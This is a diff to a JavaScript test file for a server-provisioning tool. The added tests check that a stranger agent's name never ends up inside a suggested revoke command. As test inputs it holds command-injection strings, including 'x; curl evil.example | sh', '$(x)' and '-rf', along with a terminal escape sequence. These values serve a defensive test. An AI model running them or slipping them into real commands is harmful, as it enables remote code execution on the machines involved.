@@ -7,6 +7,7 @@ const about = {
   stack: "shop",
   configurator: "salt",
   master: "master",
+  revokesKeys: false,
   columns: 120,
   style: plainStyle,
 };
@@ -64,7 +65,25 @@ describe("agents at the master", () => {
       "",
       "Somebody with another key takes the name of web1, and is not let in. Find out who; `bootmachine configurator revoke web1` and then `bootmachine configurator accept web1` take that key off the list.",
     ]);
+    // With a tool that knows keys, the server's own need not be touched for it.
+    const hint = renderAgents(rows, { ...about, revokesKeys: true }).at(-1);
+    expect(hint).toContain("`bootmachine configurator revoke --fingerprint SHA256:zz` takes that");
+    expect(hint).not.toContain("revoke web1");
   });
+
+  test.each(["x; curl evil.example | sh", "a b", "$(x)", "-rf", "x`y", "evil\nweb1", "--yes", ""])(
+    "the name %j does not stand in a command to copy: its key does",
+    (id) => {
+      const fingerprint = "ab:cd";
+      const rows = agentRows([{ id, state: "waiting", isMember: false, fingerprint }], []);
+      expect(renderAgents(rows, { ...about, revokesKeys: true }).at(-1)).toBe(
+        "A stranger is never accepted. `bootmachine configurator revoke --fingerprint ab:cd` takes that key off the list.",
+      );
+      expect(renderAgents(rows, about).at(-1)).toBe(
+        "A stranger is never accepted. Its name is none that a command could be given: take it off the list at the master itself.",
+      );
+    },
+  );
 
   test("a stranger's name cannot steer the terminal", () => {
     const rows = agentRows([{ id: "\u001B[2Jx", state: "waiting", isMember: false }], []);
